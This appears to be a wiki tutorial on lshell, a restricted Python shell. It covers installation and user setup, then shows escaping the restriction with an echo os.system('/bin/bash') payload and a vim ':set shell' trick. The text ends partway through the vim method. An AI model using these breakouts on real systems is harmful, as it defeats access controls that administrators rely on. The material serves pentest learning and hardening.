From aldeid
Jump to navigation Jump to search


Limited Shell (lshell) is a python based shell that enables to restrict commands for users.


# apt-get install lshell


Add user to lshell

To add a user to lshell, just issue:

# usermod -aG lshell pilou

Force lshell

To force lshell as default shell for a user, issue following command:

# chsh -s /usr/bin/lshell pilouBypassing lshell with os.system

lshell can be easily bypassed provided you have access to the "echo" command:

With lshell, the user is restricted to a number of limited commands:

user:~$ id
*** unknown command: iduser:~$ help
cd  clear  echo  exit  help  lllpath  ls

But it can be easily bypassed:

user:~$ echo os.system('/bin/bash')
user@lshell:~$ id
uid=1000(user) gid=1000(user) groupes=1000(user),24(cdrom),25(floppy),29(audio),30(dip),44(video),46(plugdev),110(lshell)

Bypassing lshell with vi(m)

If you have access to vi(m), it's also easy to bypass lshell with vi or vim. Start vim:user:~$ vim

Once inside,issue:

:set shell=/bin/sh